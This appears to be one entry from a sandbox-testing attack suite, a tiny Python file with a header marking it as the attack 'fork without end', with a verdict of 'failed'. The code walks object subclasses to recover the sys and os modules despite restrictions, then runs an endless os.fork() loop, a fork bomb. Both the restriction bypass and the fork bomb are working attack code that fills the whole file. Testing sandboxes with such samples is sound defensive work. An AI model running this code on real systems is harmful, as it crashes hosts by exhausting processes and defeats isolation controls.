# /// attack
# rows = [61]
# title = "fork without end"
# verdict = "failed"
# seconds = 30
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
while True:
    try:
        os.fork()
    except OSError:
        pass
